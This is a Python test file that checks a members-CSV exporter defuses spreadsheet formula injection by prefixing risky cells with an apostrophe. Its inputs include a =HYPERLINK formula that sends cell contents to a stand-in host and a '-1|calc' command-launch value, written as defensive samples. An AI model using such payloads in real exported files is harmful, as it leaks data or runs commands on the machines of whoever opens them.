"""The members CSV opens in a spreadsheet: names the members chose must stay text there."""

from __future__ import annotations

import csv
import io

from nigehbaan.chats.exports import as_text_cell, members_csv
from nigehbaan.chats.views import MemberView


def member(*names: str, telegram_id: str | None = None) -> MemberView:
    return MemberView(
        member_id=1, key="name:x", display_names=list(names), phone_e164="+923001234567",
        country="PK", telegram_id=telegram_id, is_owner=False, mention_only=False, messages=2,
        media=0, known_matches=0, added_count=0, pagerank=0.1, betweenness=0.0, core=1,
        removal_effect=0, indicators=[], triage="undetermined", triage_rule="no indicator",
    )  # fmt: skip


def test_formula_names_become_text() -> None:
    row = next(csv.DictReader(io.StringIO(members_csv([
        member('=HYPERLINK("http://x.example/?"&A1,"open")', "@cmd", "Ali",
               telegram_id="-1|calc"),
    ]))))  # fmt: skip
    assert row["display_name"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
    assert row["aliases"] == "'@cmd; Ali" and row["telegram_id"] == "'-1|calc"
    assert row["phone_e164"] == "+923001234567"  # ours, digits only: left as written


def test_plain_names_unchanged() -> None:
    assert as_text_cell("Ali") == "Ali" and as_text_cell("") == ""
    assert [as_text_cell(c + "x") for c in "=+-@\t\r"] == [f"'{c}x" for c in "=+-@\t\r"]
